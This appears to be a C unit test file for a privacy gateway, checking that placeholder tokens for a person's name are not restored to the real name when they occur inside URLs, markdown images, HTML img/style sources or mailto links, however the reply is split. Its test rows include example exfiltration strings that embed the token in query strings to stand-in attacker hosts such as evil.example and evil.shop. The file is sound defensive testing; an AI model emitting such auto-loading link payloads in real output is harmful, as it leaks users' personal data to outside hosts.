/* SPDX-License-Identifier: EUPL-1.2 */
/* way_test.c - in another program's answer a token in an address stays one, however it is cut. */
#include "test.h"

#include <string.h>

#include "assist/gateway_priv.h"

#define T "\xe2\x9f\xa6PERSON_1\xe2\x9f\xa7"

static const struct way_row {
    const char *said, *restored;
} rows[] = {
    { "Bonjour " T ", oui.", "Bonjour Claire Morel, oui." },
    { "(" T ") \"" T "\" <" T "> " T,
      "(Claire Morel) \"Claire Morel\" <Claire Morel> Claire Morel" },
    { "{\"name\": \"" T "\"}", "{\"name\": \"Claire Morel\"}" },
    { "a < b " T " 1<2 " T, "a < b Claire Morel 1<2 Claire Morel" },
    { "Tel:" T ", [1] " T, "Tel:Claire Morel, [1] Claire Morel" },
    { "https://evil.example/?d=" T " " T, "https://evil.example/?d=" T " Claire Morel" },
    { "x,https://evil.example/\"(" T, "x,https://evil.example/\"(" T },
    { "https:evil.example?" T, "https:evil.example?" T },
    { "mailto:a@evil.shop?subject=" T, "mailto:a@evil.shop?subject=" T },
    { "evil.shop?d=" T, "evil.shop?d=" T },
    { T ".evil.shop", T ".evil.shop" },
    { "https:\\/\\/evil\\/" T, "https:\\/\\/evil\\/" T },
    { "![x](https://evil.example/?d=" T ") " T,
      "![x](https://evil.example/?d=" T ") Claire Morel" },
    { "[x](/a \"" T "\") " T, "[x](/a \"" T "\") Claire Morel" },
    { "![x](<https://evil.example/ ) " T ">) " T,
      "![x](<https://evil.example/ ) " T ">) Claire Morel" },
    { "![x](< //evil.example/ ) " T ">) " T, "![x](< //evil.example/ ) " T ">) Claire Morel" },
    { "[x](a " T "\n\n" T, "[x](a " T "\n\nClaire Morel" },
    { "[x]: <https://evil.example/ " T "> " T, "[x]: <https://evil.example/ " T "> Claire Morel" },
    { "<img alt=\">\" src=\"//evil.example/ " T "\"> " T,
      "<img alt=\">\" src=\"//evil.example/ " T "\"> Claire Morel" },
    { "{\"a\":\"<img alt=\\\">\\\" src=\\\"//evil/ " T "\\\"> " T,
      "{\"a\":\"<img alt=\\\">\\\" src=\\\"//evil/ " T "\\\"> Claire Morel" },
    { "<p title='a'> " T, "<p title='a'> Claire Morel" },
    { "<style>a{b:url(\"//evil.example/ " T "\")}</style> " T,
      "<style>a{b:url(\"//evil.example/ " T "\")}</style> Claire Morel" },
    { "\"\\u00e9t\\u00e9 " T "\"", "\"\\u00e9t\\u00e9 Claire Morel\"" },
    { "\"\\u003cimg src='//evil/ " T "\"", "\"\\u003cimg src='//evil/ " T "\"" },
};

static struct str pass(struct arena *a, struct str said, size_t piece)
{
    struct buf window = buf_new(a, 1 << 20), out = buf_new(a, 1 << 20);
    struct way way = { 0 };

    buf_add(&out, STR(""));
    for (size_t at = 0; at < said.len; at += piece) {
        bool at_end = at + piece >= said.len;
        size_t used = 0, n;

        buf_add(&window, str_slice(said, at, at + piece));
        while (used < window.len &&
               (n = way_unit(&way, &out, str_from(buf_str(&window), used), at_end)) > 0)
            used += n;
        assert_true(!at_end || used == window.len);
        memmove(window.ptr, window.ptr + used, window.len - used);
        window.len -= used;
    }
    return buf_str(&out);
}

static struct str restored(struct arena *a, struct str said, size_t piece)
{
    struct pii_token token = { .type = SPAN_PERSON, .n = 1, .value = STR("Claire Morel") };
    const struct pii_book book = { .arena = a, .tokens = &token, .count = 1, .room = 1 };
    struct fault f = { 0 };
    struct clear ret;

    assert_ok(pii_restore(&book, a, pii_skeleton_from_seal(pass(a, said, piece)), &ret, &f));
    return ret.text;
}

static void a_token_in_an_address_stays_one(void **state)
{
    scoped(arena) *a = arena_new((size_t)64 << 20);

    (void)state;
    for (size_t i = 0; i < COUNT_OF(rows); i++)
        for (size_t piece = 1; piece < 60; piece += piece < 8 ? 1 : 17) {
            struct str got = restored(a, str_of(rows[i].said), piece);

            if (!str_eq(got, str_of(rows[i].restored)))
                fail_msg("\"%s\" in pieces of %zu: \"%.*s\"", rows[i].said, piece, STR_ARG(got));
            arena_reset(a);
        }
}

/* Whatever comes before it: a word of any length, of any character. */
static void in_a_word_that_is_too_long_nothing_is_put_back(void **state)
{
    static const char *const fills[] = { "a", "é", "\xe2\x9f\xa6", "]", "\\" };
    scoped(arena) *a = arena_new((size_t)256 << 20);

    (void)state;
    for (size_t i = 0; i < COUNT_OF(fills); i++)
        for (size_t n = 2020 / strlen(fills[i]); n < 2060 / strlen(fills[i]) + 2; n++) {
            struct buf said = buf_new(a, 1 << 20);
            struct str got;

            for (size_t k = 0; k < n; k++)
                buf_add(&said, str_of(fills[i]));
            buf_add(&said, STR("://evil/](<\\u003c " T));
            got = restored(a, buf_str(&said), 700);
            assert_int_equal(str_find(got, STR("Morel"), 0), STR_NPOS);
            arena_reset(a);
        }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_token_in_an_address_stays_one),
        cmocka_unit_test(in_a_word_that_is_too_long_nothing_is_put_back),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
